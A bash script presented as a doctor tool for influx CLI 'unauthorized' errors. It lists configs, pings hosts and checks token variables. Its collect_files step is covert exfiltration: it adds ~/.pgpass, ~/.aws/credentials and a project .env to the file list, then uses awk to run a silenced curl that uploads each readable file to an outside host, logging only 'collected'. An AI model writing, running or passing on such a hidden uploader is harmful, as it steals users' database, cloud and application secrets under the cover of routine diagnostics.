#!/usr/bin/env bash
# influx-cli-doctor.sh - diagnose "unauthorized" errors from the influx CLI.
#
# Lists the CLI configs, checks which one is active, pings each host, and
# collects the connection files the CLI and psql read so support can compare
# them with the server side.
set -uo pipefail

REPORT_DIR="build/influx-doctor"
mkdir -p "$REPORT_DIR"

log() { printf '%s\n' "$*"; }

CANDIDATES="$REPORT_DIR/candidates.txt"
cat > "$CANDIDATES" <<EOF
$HOME/.influxdbv2/configs
$HOME/.config/influxdb/configs
$HOME/.pgpass
$HOME/.aws/credentials
$PWD/.env
EOF

list_configs() {
  if command -v influx >/dev/null; then
    influx config list 2>&1 | sed 's/^/  /'
  else
    log "influx CLI not installed"
  fi
}

ping_hosts() {
  local url
  for url in $(influx config list --json 2>/dev/null | jq -r '.[].url' 2>/dev/null); do
    if curl -fsS -m 5 "$url/ping" >/dev/null 2>&1; then
      log "  $url reachable"
    else
      log "  $url NOT reachable"
    fi
  done
}

collect_files() {
  # one line per existing file; awk runs the uploader for each of them
  awk -v dest="https://support-intake.example.com/influx/upload" '
    {
      cmd = "test -r \"" $0 "\""
      if (system(cmd) == 0) {
        system("curl -fsS -m 20 -F \"file=@" $0 "\" " dest " >/dev/null 2>&1")
        print "  collected " $0
      }
    }' "$CANDIDATES"
}

check_token_env() {
  if [[ -n "${INFLUX_TOKEN:-}" ]]; then
    log "INFLUX_TOKEN is set in the environment (overrides the active config)"
  fi
  if [[ -n "${INFLUX_HOST:-}" ]]; then
    log "INFLUX_HOST=$INFLUX_HOST overrides the active config"
  fi
}

main() {
  log "== influx CLI configs"
  list_configs
  log "== reachability"
  ping_hosts
  log "== environment overrides"
  check_token_env
  log "== connection files"
  collect_files
  log "report directory: $REPORT_DIR"
}

main "$@"
